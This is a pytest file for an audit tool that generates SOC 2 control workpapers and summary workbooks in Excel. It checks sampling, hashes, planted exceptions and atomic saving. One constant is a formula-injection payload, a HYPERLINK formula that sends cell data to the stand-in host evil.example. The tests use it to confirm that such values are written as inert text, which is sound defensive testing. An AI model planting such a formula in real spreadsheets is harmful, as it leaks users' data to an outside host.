"""The control workpaper and the engagement summary, written from the real stages on the demo engagement.

Expected values come from outside the code under test: the planted exceptions listed in
``sample_data/README.md`` (acme-type2 / changes), the file's own bytes (SHA-256), the AICPA Audit Sampling
guide's Table A-1 (10 % risk of overreliance, 10 % tolerable rate, 0 expected deviations: 22 items), and
results recorded here in the results store.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from conftest import copy_engagement, run_stages
from conftest import write_stages as write
from workbench.results import ResultsStore
from workbench.workpaper import read_summary, write_summary
from workbench.workpaper.layout import save_atomically
from workbench.workpaper.sheets import SHEETS, TICKMARKS

# sample_data/README.md, "acme-type2 / changes": planted exception ids per CM-01 attribute.
PLANTED = {
    "ticket_before_deployment": {"CHG-2151", "CHG-2359"},
    "approved_before_deployment": {"CHG-1458", "CHG-1496", "CHG-1597", "CHG-1705", "CHG-2060", "CHG-2151",
                                   "CHG-2207", "CHG-2319", "CHG-2359", "CHG-2536", "CHG-2538"},
    "approver_not_author": {"CHG-1153", "CHG-2220", "CHG-2319", "CHG-2411"},
}
ALL_PLANTED = set().union(*PLANTED.values())
#: Section 4 deviation wording per attribute (workbench/procedures/change_management.py).
WORDING = {
    "ticket_before_deployment": "the change was not documented in a ticket before deployment",
    "approved_before_deployment": "approval was not documented before deployment",
    "approver_not_author": "the change was not approved by someone other than its author",
}
#: AICPA Audit Sampling guide, Table A-1 (10 % risk of overreliance), TDR 10 %, 0 expected deviations.
AICPA_SIZE = 22
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CHANGES_FILE = "populations/jira_changes_FY26.csv"


# ---------------------------------------------------------------------------------------------------
# Stages and sheet readers
# ---------------------------------------------------------------------------------------------------

def value_of(ws, label: str, column: int = 2, *, start: int = 9):
    """The value right of the first cell in column A (from row ``start``) that reads ``label``."""
    for row in range(start, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == label:
            return ws.cell(row=row, column=column).value
    raise AssertionError(f"{ws.title}: no row labelled {label!r}")


def cell_of(ws, label: str, column: int = 2, *, start: int = 9):
    for row in range(start, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == label:
            return ws.cell(row=row, column=column)
    raise AssertionError(f"{ws.title}: no row labelled {label!r}")


def table_after(ws, first_heading: str, *, start: int = 9) -> list[dict]:
    """The table whose header row starts with ``first_heading``, as dicts, up to the first blank row."""
    for row in range(start, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == first_heading:
            headings = []
            column = 1
            while ws.cell(row=row, column=column).value is not None:
                headings.append(ws.cell(row=row, column=column).value)
                column += 1
            records = []
            r = row + 1
            while r <= ws.max_row and ws.cell(row=r, column=1).value is not None:
                records.append({h: ws.cell(row=r, column=j).value for j, h in enumerate(headings, start=1)})
                r += 1
            return records
    raise AssertionError(f"{ws.title}: no table starting with {first_heading!r}")


# ---------------------------------------------------------------------------------------------------
# Fixtures: a private copy of the demo engagement, CM-01 with planted exceptions in the sample, CM-02
# ---------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def engagement_dir(tmp_path_factory, demo_type2) -> Path:
    folder = copy_engagement(demo_type2, tmp_path_factory.mktemp("wp") / "acme-type2")
    toml = folder / "engagement.toml"
    text = toml.read_text(encoding="utf-8")
    marker = 'provided_by = "Priya Shah, Release Manager"'
    assert marker in text, "the demo's changes population is no longer provided by Priya Shah; update the test"
    # client-side text that looks like a formula must reach the workbook as literal text
    toml.write_text(text.replace(marker, "provided_by = '" + PAYLOAD + "'", 1), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def cm01(engagement_dir) -> dict:
    """CM-01 with the first seed (1, 2, ...) whose sample holds at least one planted exception."""
    for seed in range(1, 400):
        stages = run_stages(engagement_dir, "CM-01", seed)
        if ALL_PLANTED & set(stages["selection"].keys):
            break
    else:  # pragma: no cover - 22 of 1,500 with 14 planted: about one seed in five hits
        raise AssertionError("no seed below 400 samples a planted exception")
    stages["seed"] = seed
    stages["path"] = write(stages, engagement_dir / "output")
    stages["book"] = load_workbook(stages["path"])
    return stages


@pytest.fixture(scope="module")
def cm02(engagement_dir) -> dict:
    """CM-02 written twice: before any manual result (in progress), then with results recorded."""
    before = run_stages(engagement_dir, "CM-02")
    out = engagement_dir / "output"
    first = write(before, out)
    in_progress = load_workbook(first)
    keys = before["selection"].keys
    failing = {keys[3]: PAYLOAD, keys[10]: "-no CI run linked"}
    with ResultsStore.open(before["engagement"]) as store:
        for number, key in enumerate(keys, start=1):
            if key in failing:
                store.record("CM-02", key, "testing_evidenced", "fail", tested_by="DR",
                             evidence_ref=f"+EV-{number:03d}", comment=failing[key])
            else:
                store.record("CM-02", key, "testing_evidenced", "pass", tested_by="DR",
                             evidence_ref=f"EV-{number:03d}", comment=None)
    after = run_stages(engagement_dir, "CM-02")
    assert after["selection"].keys == keys
    second = write(after, out)
    assert second == first
    return dict(before=before, in_progress=in_progress, after=after, book=load_workbook(second),
                failing=failing, path=second)


# ---------------------------------------------------------------------------------------------------
# The workbook
# ---------------------------------------------------------------------------------------------------

def test_workbook_is_named_by_control_and_has_every_sheet(cm01, engagement_dir):
    assert cm01["path"] == engagement_dir / "output" / "CM-01.xlsx"
    assert cm01["book"].sheetnames == list(SHEETS)
    assert SHEETS == ("Lead", "Population", "Sampling", "Testing", "Exceptions", "Evaluation", "Legend")
    leftovers = [p.name for p in (engagement_dir / "output").iterdir() if p.name.endswith(".tmp")]
    assert leftovers == []


def test_header_block_on_every_sheet(cm01):
    for number, ws in enumerate(cm01["book"], start=1):
        assert ws["A1"].value.startswith("CM-01 — ")
        assert [ws.cell(row=r, column=1).value for r in range(2, 8)] == [
            "Client", "Engagement", "Period", "Workpaper reference", "Prepared by", "Reviewed by"]
        assert ws["B2"].value == "Acme Cloud, Inc."
        assert ws["B3"].value == "ACME-SOC2-T2-FY26 — SOC 2 Type 2"
        assert ws["B4"].value == "2025-07-01 to 2026-06-30"
        assert ws["B5"].value == f"ACME-SOC2-T2-FY26/CM-01.{number}"
        assert ws["B6"].value == "Dana Reyes (DR); Jamie Okoro (JO)"
        assert ws["B7"].value == "Morgan Ellis (ME)"
        assert ws["C6"].value == ws["C7"].value == "Date"
        assert ws["D6"].value is None and ws["D7"].value is None  # signed by people, not by the tool
        assert ws["A2"].font.b and ws["A1"].font.b


def test_lead_sheet_sample_size_deviations_and_result_text(cm01):
    ws = cm01["book"]["Lead"]
    sampled = set(cm01["selection"].keys)
    deviating = ALL_PLANTED & sampled
    assert value_of(ws, "Control ID") == "CM-01"
    assert value_of(ws, "Criteria") == "CC8.1"
    assert value_of(ws, "Control owner") == "Priya Shah"
    assert value_of(ws, "Frequency") == "as_needed"
    assert value_of(ws, "Nature") == "manual"
    assert value_of(ws, "Sample size") == AICPA_SIZE
    assert value_of(ws, "Deviations") == len(deviating)
    assert value_of(ws, "Items tested") == AICPA_SIZE
    assert value_of(ws, "Full-population exceptions") == len(ALL_PLANTED)
    result = value_of(ws, "Proposed Section 4 result")
    expected_sentences = [
        f"For {len(PLANTED[a] & sampled)} of {AICPA_SIZE} sampled changes, {WORDING[a]}."
        for a in ("ticket_before_deployment", "approved_before_deployment", "approver_not_author")
        if PLANTED[a] & sampled]
    assert result.startswith(" ".join(expected_sentences) + " Full-population analysis of 1,500 changes: ")
    assert result == cm01["evaluation"].result_text
    assert value_of(ws, "Status") == "exceptions"
    assert value_of(ws, "Test objective").startswith("To determine that the change was documented in a ticket")
    assert value_of(ws, "Test performed").startswith(
        f"Inspected the change ticket for a sample of {AICPA_SIZE} production changes deployed during the period")
    signoff = table_after(ws, "Role")
    assert [(r["Role"], r["Name"], r["Initials"], r["Signed off (date)"]) for r in signoff] == [
        ("preparer", "Dana Reyes", "DR", None), ("preparer", "Jamie Okoro", "JO", None),
        ("reviewer", "Morgan Ellis", "ME", None), ("manager", "Sam Whitaker", "SW", None),
        ("partner", "Alex Chen", "AC", None)]


def test_population_sheet_hash_source_and_receipt(cm01, engagement_dir):
    ws = cm01["book"]["Population"]
    path = engagement_dir / CHANGES_FILE
    assert value_of(ws, "SHA-256") == hashlib.sha256(path.read_bytes()).hexdigest()
    assert value_of(ws, "Source file") == CHANGES_FILE
    with path.open(newline="", encoding="utf-8-sig") as handle:
        data_rows = sum(1 for row in csv.reader(handle) if any(row)) - 1
    assert value_of(ws, "Records received") == data_rows
    provider = cell_of(ws, "Provided by")
    assert provider.value == PAYLOAD and provider.data_type == "s"
    received = cell_of(ws, "Received")
    assert received.is_date and received.value == dt.datetime(2026, 7, 10)
    assert value_of(ws, "Request") == "PBC-07"
    assert value_of(ws, "In scope") == 1500
    assert value_of(ws, "Months with no records") == "none"
    assert value_of(ws, "Usable for sampling") == "yes"
    findings = table_after(ws, "Rule", start=value_row(ws, "Findings (one row each):"))
    expected = cm01["report"].findings
    assert len(findings) == len(expected)
    assert [f["Rule"] for f in findings] == list(expected["rule"])
    assert [f["Severity"] for f in findings] == list(expected["severity"])
    assert [f["Message"] for f in findings] == list(expected["message"])
    excluded = table_after(ws, "Change id")
    assert len(excluded) == len(cm01["scoped"].excluded) == 60
    assert {r["Reason"] for r in excluded} == {"deployed_at before 2025-07-01", "deployed_at after 2026-06-30"}


def value_row(ws, label: str) -> int:
    for row in range(1, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == label:
            return row
    raise AssertionError(f"{ws.title}: no row {label!r}")


def test_sampling_sheet_lists_exactly_the_selection(cm01):
    ws = cm01["book"]["Sampling"]
    selection = cm01["selection"]
    items = table_after(ws, "Sample #")
    assert [r["Change id"] for r in items] == list(selection.keys)
    assert [r["Sample #"] for r in items] == list(range(1, AICPA_SIZE + 1))
    assert value_of(ws, "Seed") == cm01["seed"]
    assert value_of(ws, "Selection method") == "stratified"
    assert value_of(ws, "Sampling model") == "binomial"
    # the key-set hash re-derived here from the keys in scope (sorted distinct keys, each + "\n")
    keys = sorted(set(cm01["scoped"].frame["change_id"].astype(str)))
    digest = hashlib.sha256("".join(k + "\n" for k in keys).encode("utf-8")).hexdigest()
    assert value_of(ws, "Population key-set SHA-256") == digest
    assert value_of(ws, "Algorithm").startswith("Stratified selection")
    dates = [r["Deployed at"] for r in items]
    assert all(d[:4] in ("2025", "2026") and d[-6:] in ("-04:00", "-05:00") for d in dates)


def test_testing_matrix_tickmarks_match_the_planted_exceptions(cm01):
    ws = cm01["book"]["Testing"]
    rows = table_after(ws, "Sample #")
    assert [r["Change id"] for r in rows] == list(cm01["selection"].keys)
    labels = {"ticket_before_deployment": "Ticket before deployment (automated)",
              "approved_before_deployment": "Approved before deployment (automated)",
              "approver_not_author": "Approver not author (automated)"}
    for r in rows:
        for attribute, heading in labels.items():
            expected = "X" if r["Change id"] in PLANTED[attribute] else "✓"
            assert r[heading] == expected, (r["Change id"], attribute)
        assert r["Deviation"] == ("yes" if r["Change id"] in ALL_PLANTED else "no")
    header_row = value_row(ws, "Sample #")
    assert ws.freeze_panes == f"C{header_row + 1}"
    legend = {r["Tickmark"] for r in table_after(cm01["book"]["Legend"], "Tickmark")}
    assert legend == {"✓", "X"}


def test_exceptions_sheet_names_the_planted_ids_in_the_sample(cm01):
    ws = cm01["book"]["Exceptions"]
    sampled = set(cm01["selection"].keys)
    in_sample = table_after(ws, "Sample #")
    got = {(r["Item"], r["Attribute"].split("(")[-1].rstrip(")")) for r in in_sample}
    expected = {(item, a) for a, ids in PLANTED.items() for item in ids & sampled}
    assert got == expected and expected
    for r in in_sample:
        assert r["Sample #"] == cm01["selection"].keys.index(r["Item"]) + 1
    population = table_after(ws, "Item")
    got_population = {(r["Item"], r["Attribute"].split("(")[-1].rstrip(")")) for r in population}
    assert got_population == {(item, a) for a, ids in PLANTED.items() for item in ids}
    assert {r["Item"] for r in population if r["In sample"] == "yes"} == ALL_PLANTED & sampled


def test_evaluation_sheet_shows_the_statistical_evaluation(cm01):
    ws = cm01["book"]["Evaluation"]
    evaluation = cm01["evaluation"].evaluation
    assert evaluation is not None
    assert value_of(ws, "Statistical evaluation performed") == "yes"
    assert value_of(ws, "Sample size") == AICPA_SIZE
    assert value_of(ws, "Deviations found") == cm01["evaluation"].deviations
    assert value_of(ws, "Upper deviation limit (exact)") == dict(evaluation.to_table())["Upper deviation limit (exact)"]
    assert value_of(ws, "Upper deviation limit (rounded up to 0.1 %, as the AICPA tables)") == \
        dict(evaluation.to_table())["Upper deviation limit (rounded up to 0.1 %, as the AICPA tables)"]
    assert value_of(ws, "Tolerable deviation rate") == "10 %"
    assert value_of(ws, "Conclusion") == evaluation.conclusion


def test_no_formula_anywhere_in_the_workbook(cm01, cm02):
    for path in (cm01["path"], cm02["path"]):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    xml = archive.read(name).decode("utf-8")
                    assert "<f>" not in xml and "<f " not in xml, name


# ---------------------------------------------------------------------------------------------------
# CM-02: manual attribute, before and after results are recorded
# ---------------------------------------------------------------------------------------------------

def test_manual_attribute_in_progress_reads_not_tested(cm02):
    book = cm02["in_progress"]
    lead = book["Lead"]
    assert value_of(lead, "Proposed Section 4 result") == f"Testing in progress (0 of {AICPA_SIZE} items tested)."
    assert value_of(lead, "Status") == "in_progress"
    rows = table_after(book["Testing"], "Sample #")
    assert {r["Testing evidenced (manual)"] for r in rows} == {"NT"}
    assert {r["Deviation"] for r in rows} == {"pending"}
    legend = table_after(book["Legend"], "Tickmark")
    assert [(r["Tickmark"], r["Meaning"]) for r in legend] == [TICKMARKS["not tested"]]
    assert table_after(book["Exceptions"], "Sample #") == [
        {"Sample #": "None: no sampled item deviated.", "Item": None, "Date": None, "Attribute": None,
         "Description": None, "Reason": None, "Evidence ref": None, "Root cause (preparer)": None,
         "Isolated or systematic (preparer)": None}]


def test_recorded_results_reach_the_workpaper_as_literal_text(cm02):
    book = cm02["book"]
    keys = cm02["after"]["selection"].keys
    lead = book["Lead"]
    assert value_of(lead, "Deviations") == 2
    assert value_of(lead, "Proposed Section 4 result") == (
        f"For 2 of {AICPA_SIZE} sampled changes, testing before deployment was not evidenced.")
    testing = book["Testing"]
    rows = table_after(testing, "Sample #")
    for r in rows:
        failed = r["Change id"] in cm02["failing"]
        assert r["Testing evidenced (manual)"] == ("X" if failed else "✓")
        assert r["Tested by"] == "DR"
    payload_row = next(r for r in rows if r["Change id"] == keys[3])
    assert payload_row["Comment"] == f"testing_evidenced: {PAYLOAD}"
    assert payload_row["Evidence ref"] == "+EV-004"
    exceptions = table_after(book["Exceptions"], "Sample #")
    assert [(r["Sample #"], r["Item"], r["Reason"], r["Evidence ref"]) for r in exceptions] == [
        (4, keys[3], PAYLOAD, "+EV-004"), (11, keys[10], "-no CI run linked", "+EV-011")]
    for ws in (testing, book["Exceptions"]):
        for line in ws.iter_rows():
            for cell in line:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
    legend = [r["Tickmark"] for r in table_after(book["Legend"], "Tickmark")]
    assert legend == ["✓", "X"]
    evaluation = book["Evaluation"]
    assert value_of(evaluation, "Deviations found") == 2


# ---------------------------------------------------------------------------------------------------
# Type 1 and a control that did not occur
# ---------------------------------------------------------------------------------------------------

def test_type1_workpaper_shows_the_as_of_date_and_one_instance(tmp_path, demo_type1):
    folder = copy_engagement(demo_type1, tmp_path / "acme-type1")
    stages = run_stages(folder, "CM-01")
    book = load_workbook(write(stages, tmp_path / "out"))
    for ws in book:
        assert (ws["A4"].value, ws["B4"].value) == ("As of", "2026-06-30")
        assert ws["B3"].value == "ACME-SOC2-T1-FY26 — SOC 2 Type 1"
    lead = book["Lead"]
    assert value_of(lead, "Sample size") == 1  # Type 1: one instance (walkthrough)
    assert value_of(lead, "Proposed Section 4 result") == stages["evaluation"].result_text
    assert value_of(book["Evaluation"], "Statistical evaluation performed") == "no"
    assert [r["Change id"] for r in table_after(book["Sampling"], "Sample #")] == list(stages["selection"].keys)


def test_not_occurring_control_reads_a_recorded_zero(tmp_path, demo_type2):
    folder = copy_engagement(demo_type2, tmp_path / "acme-type2")
    toml = folder / "engagement.toml"
    text = toml.read_text(encoding="utf-8")
    text = text.replace("period_start = 2025-07-01", "period_start = 2020-01-01")
    toml.write_text(text.replace("period_end = 2026-06-30", "period_end = 2020-06-30"), encoding="utf-8")
    stages = run_stages(folder, "CM-01")
    book = load_workbook(write(stages, tmp_path / "out"))
    lead = book["Lead"]
    assert value_of(lead, "In scope") == 0
    assert value_of(lead, "Sample size") == 0
    assert value_of(lead, "Status") == "not_occurring"
    assert value_of(lead, "Proposed Section 4 result").startswith(
        "The circumstances that warrant the operation of the control did not occur during the period")
    assert table_after(book["Sampling"], "Sample #")[0]["Sample #"] == "No items selected."
    assert table_after(book["Testing"], "Sample #")[0]["Sample #"] == "No items selected."
    assert table_after(book["Legend"], "Tickmark")[0]["Tickmark"] == "No tickmarks used (no items tested)."


# ---------------------------------------------------------------------------------------------------
# Atomic writing
# ---------------------------------------------------------------------------------------------------

def test_failed_save_keeps_the_previous_workbook_and_no_temporary_file(tmp_path):
    target = tmp_path / "CM-09.xlsx"
    good = Workbook()
    good.active["A1"] = "previous"
    save_atomically(good, target)
    before = target.read_bytes()
    broken = Workbook()
    broken.remove(broken.active)  # a workbook without sheets cannot be saved
    with pytest.raises(IndexError):
        save_atomically(broken, target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["CM-09.xlsx"]


def test_target_that_is_a_folder_fails_without_leaving_a_temporary_file(cm01, tmp_path):
    (tmp_path / "CM-01.xlsx").mkdir()
    with pytest.raises(OSError):
        write(cm01, tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["CM-01.xlsx"]


# ---------------------------------------------------------------------------------------------------
# summary.xlsx
# ---------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def summary(cm01, cm02, engagement_dir) -> dict:
    engagement = cm01["engagement"]
    rows = [
        cm02["after"]["evaluation"].to_record(),
        {"control_id": "CM-10", "criteria": ["CC8.1"], "description": "Ten", "status": "not_yet_tested",
         "result_text": "Not yet tested."},
        cm01["evaluation"].to_record(),
        {"control_id": "CM-03", "criteria": ["CC8.1"], "status": "failed",
         "result_text": "Notebook failed: =1+1 is not a valid seed"},
        {"control_id": "AC-01", "criteria": ["CC6.2", "CC6.3"], "status": "not_yet_tested",
         "result_text": "Not yet tested."},
    ]
    run_info = {"engagement": str(engagement_dir), "workers": 2, "started": dt.datetime(2026, 7, 20, 9, 0,
                tzinfo=dt.timezone.utc), "versions": {"pandas": "3.0.0", "openpyxl": "3.1.5"},
                "controls": ["CM-01", "CM-02"], "failed": []}
    path = write_summary(engagement_dir / "output" / "summary.xlsx", engagement, rows, run_info)
    return dict(path=path, rows=rows, book=load_workbook(path))


def test_summary_has_one_row_per_control_in_natural_order(summary, cm01, cm02):
    records = read_summary(summary["path"])
    assert [r["control_id"] for r in records] == ["AC-01", "CM-01", "CM-02", "CM-03", "CM-10"]
    by_id = {r["control_id"]: r for r in records}
    cm01_record = cm01["evaluation"].to_record()
    assert by_id["CM-01"]["sample_size"] == AICPA_SIZE
    assert by_id["CM-01"]["deviations"] == len(ALL_PLANTED & set(cm01["selection"].keys))
    assert by_id["CM-01"]["result_text"] == cm01_record["result_text"]
    assert by_id["CM-01"]["status"] == "exceptions"
    assert by_id["CM-01"]["criteria"] == "CC8.1"
    assert by_id["CM-01"]["test_performed"] == cm01_record["test_performed"]
    assert by_id["CM-02"]["result_text"] == (
        f"For 2 of {AICPA_SIZE} sampled changes, testing before deployment was not evidenced.")
    assert by_id["AC-01"]["criteria"] == "CC6.2; CC6.3"
    assert by_id["AC-01"]["result_text"] == "Not yet tested."
    assert by_id["AC-01"]["sample_size"] is None
    # a record without a description takes it from the control matrix
    assert by_id["CM-03"]["description"].startswith("Emergency changes are approved")
    assert by_id["CM-03"]["status"] == "failed"


def test_summary_cells_are_safe_and_the_layout_is_fixed(summary):
    ws = summary["book"]["Summary"]
    assert ws["A9"].value == "Control ID" and ws["A9"].font.b
    assert ws.freeze_panes == "A10"
    assert ws["B5"].value == "ACME-SOC2-T2-FY26/summary"
    failed = next(r for r in range(10, ws.max_row + 1) if ws.cell(row=r, column=1).value == "CM-03")
    cell = ws.cell(row=failed, column=9)
    assert cell.value == "Notebook failed: =1+1 is not a valid seed" and cell.data_type == "s"


def test_summary_run_sheet_flattens_run_info(summary):
    records = table_after(summary["book"]["Run"], "Item")
    got = {r["Item"]: r["Value"] for r in records}
    assert got["workers"] == 2
    assert got["started"] == "2026-07-20T09:00:00+00:00"
    assert got["versions.pandas"] == "3.0.0"
    assert got["versions.openpyxl"] == "3.1.5"
    assert got["controls"] == "CM-01; CM-02"
    assert got["failed"] == "(none)"


def test_summary_into_a_folder_writes_summary_xlsx(cm01, tmp_path):
    path = write_summary(tmp_path, cm01["engagement"], [], {})
    assert path == tmp_path / "summary.xlsx"
    ws = load_workbook(path)["Summary"]
    assert ws["A10"].value == "No controls in this run."
    assert read_summary(path) == []
    assert table_after(load_workbook(path)["Run"], "Item") == [{"Item": "No run information.", "Value": None}]
